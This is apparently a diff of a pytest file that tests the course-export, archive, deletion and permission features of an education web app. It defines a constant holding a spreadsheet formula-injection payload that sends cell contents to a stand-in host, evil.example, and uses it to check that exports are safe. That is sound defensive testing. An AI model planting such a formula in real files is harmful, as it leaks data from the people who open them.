@@ -7,25 +7,20 @@ import io
 import json
 import re
 import zipfile
-from collections.abc import Iterator
 from dataclasses import replace
 from datetime import date
-from pathlib import Path
 from typing import Any
 
 import pytest
 import sqlalchemy as sa
 from fastapi import FastAPI
-from starlette.testclient import TestClient
 
 from app.exchange.course_files import CourseFiles
 from app.grading.grade import grade
-from app.main import create_app
-from app.settings import Settings
 from app.store import Fixed, Graded, Plan, Policies, Spot, Student, Teacher
 from app.store.classwork import Draft
 from app.store.tables import log, metadata
-from tests.helpers.classes import World
+from tests.helpers.school import School
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
 LLAMA = Fixed("llama-7b", 100)
@@ -43,14 +38,14 @@ class Taught:
     """A course with two students, an activity with two sheets, and an anonymous and a named ticket."""
 
     def __init__(self, app: FastAPI, number: int = 1) -> None:
-        self.world = World(app)
-        self.ada = self.world.teacher(f"ada@{number}.example")
-        self.course = self.world.course(f"Transformers {number}", self.ada)
+        self.school = School(app)
+        self.ada = self.school.teacher(f"ada@{number}.example")
+        self.course = self.school.course(f"Transformers {number}", self.ada)
         plan = Plan("Week 3", date(2026, 3, 2), Policies())
-        self.activity = self.world.activity(self.course, plan=plan)
+        self.activity = self.school.activity(self.course, plan=plan)
         named = replace(plan, title="Week 4", policies=Policies(ticket_anonymous=False))
-        self.named = self.world.activity(self.course, sheets=(), plan=named)
-        self.kim, self.lou = (self.world.student(self.course, name)[0] for name in ("Kim Secretname", EVIL))
+        self.named = self.school.activity(self.course, sheets=(), plan=named)
+        self.kim, self.lou = (self.school.student(self.course, name)[0] for name in ("Kim Secretname", EVIL))
         self.hand_in(self.kim, 0, {"queries.rows": "100"}, "first")
         self.hand_in(self.kim, 0, {"queries.rows": "100", "queries.columns": "4096/32"}, "second")
         self.hand_in(self.lou, 1, {"queries.rows": EVIL, "keys.rows": "-5"}, "third")
@@ -62,11 +57,11 @@ class Taught:
 
     @property
     def work(self) -> Any:
-        return self.world.services.store.classwork
+        return self.school.store.classwork
 
     def hand_in(self, who: Student, item: int, answers: dict[str, str], client: str) -> None:
         sheet = str(self.activity.content.items[item].worksheet["key"])
-        variant = self.world.services.library.variant(sheet)
+        variant = self.school.library.variant(sheet)
         report = grade(variant, answers)
         marks = {str(blank): mark.kind for blank, mark in report.marks.items()}
         spot = Spot(who.id, self.activity.id, 1, item, self.activity.content.items[item].sheet)
@@ -75,42 +70,26 @@ class Taught:
         self.work.record(spot, client, Draft(answers, 1, fixed), graded, handed_in=True)
 
     def get(self, name: str) -> Any:
-        with self.world.browser(teacher=self.ada) as browser:
+        with self.school.browser(teacher=self.ada) as browser:
             got = browser.get(f"/courses/{self.course.id}/exports/{name}")
         assert got.status_code == 200, got.text
         return got
 
 
 @pytest.fixture
-def anywhere(database_url: str, tmp_path: Path) -> Iterator[FastAPI]:
-    """The app on each kind of database."""
-    made = create_app(Settings(data_dir=tmp_path, database_url=database_url))
-    with TestClient(made):
-        yield made
+def taught(new_app: FastAPI) -> Taught:
+    return Taught(new_app)
 
 
-@pytest.fixture
-def app(tmp_path: Path) -> Iterator[FastAPI]:
-    """The app on SQLite."""
-    made = create_app(Settings(data_dir=tmp_path, database_url=""))
-    with TestClient(made):
-        yield made
-
-
-@pytest.fixture
-def taught(app: FastAPI) -> Taught:
-    return Taught(app)
-
-
-def test_an_export_holds_while_somebody_joins(anywhere: FastAPI) -> None:
+def test_an_export_holds_while_somebody_joins(app_on_each_database: FastAPI) -> None:
     """Whoever joins and hands in after the roster was read is in the next export; this one is whole without them."""
-    taught = Taught(anywhere)
-    store = taught.world.services.store
+    taught = Taught(app_on_each_database)
+    store = taught.school.store
     activities = store.activities.of_course(taught.course)[::-1]
     points = {activity.id: [14] * len(activity.content.items) for activity in activities}
     files = CourseFiles(store, taught.course, activities, points)
     assert len(files.students) == 2
-    late, _ = taught.world.student(taught.course, "Max Late")
+    late, _ = taught.school.student(taught.course, "Max Late")
     taught.hand_in(late, 0, {"queries.rows": "100"}, "late")
     taught.work.arrive(taught.named.id, late.id)
     taught.work.hand_in_ticket(taught.named.id, late.id, "late form", {"muddiest": "late"}, anonymous=False)
@@ -124,9 +103,9 @@ def test_an_export_holds_while_somebody_joins(anywhere: FastAPI) -> None:
     assert len(list(again.attempt_rows())) == 5
 
 
-def test_every_box_of_every_try_has_a_row(anywhere: FastAPI) -> None:
+def test_every_box_of_every_try_has_a_row(app_on_each_database: FastAPI) -> None:
     """Three tries of fourteen boxes are 42 rows; what was typed and its mark stand in them, and which try counts."""
-    taught = Taught(anywhere)
+    taught = Taught(app_on_each_database)
     got = taught.get("answers.csv")
     assert got.headers["content-disposition"] == 'attachment; filename="transformers-1-answers.csv"'
     assert got.headers["cache-control"] == "no-store"
@@ -160,7 +139,7 @@ def test_the_gradebooks_count_the_last_try_on_each_sheet(taught: Taught) -> None
 
 def test_a_sheet_that_was_replaced_keeps_its_points(taught: Taught) -> None:
     """With another worksheet in the place of the first, what was handed in there still counts, by its share."""
-    store = taught.world.services.store
+    store = taught.school.store
     items = taught.activity.content.items
     other = replace(items[0], worksheet={**items[0].worksheet, "tokens": 50})
     store.activities.revise(taught.activity, replace(taught.activity.content, items=(other, items[1])))
@@ -187,7 +166,7 @@ def test_anonymous_tickets_say_nothing_of_who_wrote_them(taught: Taught) -> None
 def test_anonymous_tickets_come_in_a_new_order_each_time(taught: Taught) -> None:
     """Twelve answers, four times: not the order of the table four times."""
     for number in range(10):
-        student, _ = taught.world.student(taught.course, f"S{number}")
+        student, _ = taught.school.student(taught.course, f"S{number}")
         taught.work.arrive(taught.activity.id, student.id)
         taught.work.hand_in_ticket(taught.activity.id, student.id, f"f{number}", {"again": str(number)}, anonymous=True)
     orders = {tuple(row["answer"] for row in read(taught.get("exit-tickets.csv").text)) for _ in range(4)}
@@ -214,20 +193,20 @@ def test_the_zip_holds_the_course_and_nothing_that_lets_people_in(taught: Taught
 
 def test_a_file_that_there_is_not_is_404(taught: Taught) -> None:
     """Also for the instructor."""
-    with taught.world.browser(teacher=taught.ada) as browser:
+    with taught.school.browser(teacher=taught.ada) as browser:
         assert browser.get(f"/courses/{taught.course.id}/exports/passwords.csv").status_code == 404
 
 
 def test_exports_and_the_rest_are_in_the_log_by_number(taught: Taught) -> None:
     """The log's rows hold no name and no title; its page says both to the course's own instructor."""
     taught.get("answers.csv")
-    with taught.world.browser(teacher=taught.ada) as browser:
+    with taught.school.browser(teacher=taught.ada) as browser:
         browser.post(f"/courses/{taught.course.id}/students/{taught.lou.id}/free")
         page = browser.get(f"/courses/{taught.course.id}/exports").text
     assert "exported answers.csv" in page
     assert "name freed" in page
     assert "Ada" in page
-    with taught.world.services.store.engine.connect() as connection:
+    with taught.school.store.engine.connect() as connection:
         rows = connection.execute(sa.select(log.c.who, log.c.what, log.c.object)).all()
     assert (f"teacher {taught.ada.id}", "exported answers.csv", f"course {taught.course.id}") in rows
     assert not any(word in str(rows) for word in ("Ada", "Kim", "Transformers", "evil"))
@@ -237,15 +216,15 @@ def test_exports_and_the_rest_are_in_the_log_by_number(taught: Taught) -> None:
 
 
 def roles(taught: Taught, role: str) -> Teacher:
-    return taught.world.teacher(f"{role}@example.org", taught.course, "assistant" if role == "bo" else "instructor")
+    return taught.school.teacher(f"{role}@example.org", taught.course, "assistant" if role == "bo" else "instructor")
 
 
 def test_an_archived_course_is_read_and_not_changed(taught: Taught) -> None:
     """Out of the list, no way in, nothing taken in, nothing changed, all to be seen and taken home; and back again."""
     course, activity = f"/courses/{taught.course.id}", f"/activities/{taught.activity.id}"
-    max_, learner = taught.world.student(taught.course, "Max")
+    max_, learner = taught.school.student(taught.course, "Max")
     sheet = f"/class/{taught.activity.id}/1"
-    with taught.world.browser(teacher=taught.ada) as ada, taught.world.browser(learner=learner) as browser:
+    with taught.school.browser(teacher=taught.ada) as ada, taught.school.browser(learner=learner) as browser:
         assert browser.post(f"{sheet}/save", data={"queries.rows": "1"}).status_code == 200
         assert ada.post(f"{course}/archive").status_code == 303
         listed = ada.get("/courses").text
@@ -275,14 +254,14 @@ def whole(store: Any) -> dict[str, list[Any]]:
         return {table.name: list(connection.execute(sa.select(table)).all()) for table in metadata.sorted_tables}
 
 
-def test_a_deleted_course_leaves_nothing_behind(anywhere: FastAPI) -> None:
+def test_a_deleted_course_leaves_nothing_behind(app_on_each_database: FastAPI) -> None:
     """With its title typed, every table is as it was without the course, but for accounts, browsers and the log."""
-    other = Taught(anywhere, 2)
-    store = other.world.services.store
+    other = Taught(app_on_each_database, 2)
+    store = other.school.store
     before = whole(store)
-    gone = Taught(anywhere)
+    gone = Taught(app_on_each_database)
     store.people.add_link("invite", "bo@example.org", gone.course.id, "assistant")
-    with gone.world.browser(teacher=gone.ada) as ada:
+    with gone.school.browser(teacher=gone.ada) as ada:
         path = f"/courses/{gone.course.id}/delete"
         refused = ada.post(path, data={"title": "transformers 1"})
         assert refused.status_code == 422
@@ -302,7 +281,7 @@ def test_a_deleted_course_leaves_nothing_behind(anywhere: FastAPI) -> None:
 def test_an_assistant_neither_exports_nor_deletes(taught: Taught) -> None:
     """They see the course; what leaves it, and its end, are the instructors'."""
     bo = roles(taught, "bo")
-    with taught.world.browser(teacher=bo) as browser:
+    with taught.school.browser(teacher=bo) as browser:
         assert "Take the results home" not in browser.get(f"/courses/{taught.course.id}").text
         assert browser.get(f"/courses/{taught.course.id}/exports/course.zip").status_code == 403
         assert browser.post(f"/courses/{taught.course.id}/delete", data={"title": "Transformers 1"}).status_code == 403
